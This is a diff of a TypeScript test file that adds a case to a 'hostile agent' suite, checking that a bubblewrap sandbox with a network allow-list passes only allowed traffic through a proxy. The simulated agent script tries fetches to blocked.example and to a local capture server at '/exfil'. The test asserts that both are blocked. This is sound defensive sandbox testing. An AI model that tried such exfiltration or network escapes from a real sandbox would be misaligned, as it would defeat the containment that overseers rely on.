@@ -241,6 +241,43 @@ describe('a hostile agent', () => {
     });
   });
 
+  describe.runIf(HAS_BWRAP)('with a network allow-list', () => {
+    it('reaches allowed hosts through the proxy only, and names what it blocked', async () => {
+      // 127.0.0.2: a loopback address the bridge does not exempt from the proxy, as it does 127.0.0.1.
+      const seen: string[] = [];
+      const allowed = createServer((req, res) => {
+        seen.push(req.url ?? '');
+        res.writeHead(200).end('hello');
+      });
+      await new Promise<void>((resolve) => allowed.listen(0, '127.0.0.2', resolve));
+      const url = `http://127.0.0.2:${(allowed.address() as AddressInfo).port}`;
+      try {
+        const fetchTo = (target: string, label: string) => `node -e "fetch('${target}').then((r) => console.log('${label}', r.status), (e) => console.log('${label} failed', e.cause?.code ?? e.message))" >> net.txt 2>&1`;
+        const script = [
+          `NODE_USE_ENV_PROXY=1 ${fetchTo(`${url}/through-proxy`, 'allowed')}`,
+          `NODE_USE_ENV_PROXY=1 ${fetchTo('https://blocked.example/', 'blocked')}`,
+          `NODE_USE_ENV_PROXY=1 ${fetchTo(`${captureUrl}/exfil`, 'capture')}`,
+          fetchTo(`${url}/direct`, 'direct'),
+          'echo done > result.txt',
+        ].join('; ');
+        const { outcome, request } = await attack('bubblewrap', script, { agent: agentDefinition.parse({ kind: 'command', command: ['sh', '-c', script], network: { allow: ['127.0.0.2'] } }) });
+        const net = await pushed(request.branch, 'net.txt');
+        expect(net).toContain('allowed 200');
+        expect(net).toMatch(/blocked failed/);
+        expect(net).toMatch(/direct failed (ECONNREFUSED|ENETUNREACH)/);
+        expect(seen).toEqual(['/through-proxy']);
+        expect(outcome.state).toBe('succeeded');
+        expect(outcome.blocked).toEqual(['blocked.example:443']);
+        expect(outcome.reason).toContain('The sandbox blocked network requests to `blocked.example:443`');
+        // 127.0.0.1 is never sent through the proxy: inside the sandbox it is the sandbox's own loopback.
+        expect(net).toMatch(/capture failed (ECONNREFUSED|ENETUNREACH)/);
+        expect(captured).toEqual([]);
+      } finally {
+        await new Promise<void>((resolve) => allowed.close(() => resolve()));
+      }
+    });
+  });
+
   it('holds a token that reaches one repository\'s contents, and dies with its run', async () => {
     await twin.octokit('o').rest.repos.createForAuthenticatedUser({ name: 'other', auto_init: true });
     const token = await mint(repo.name);
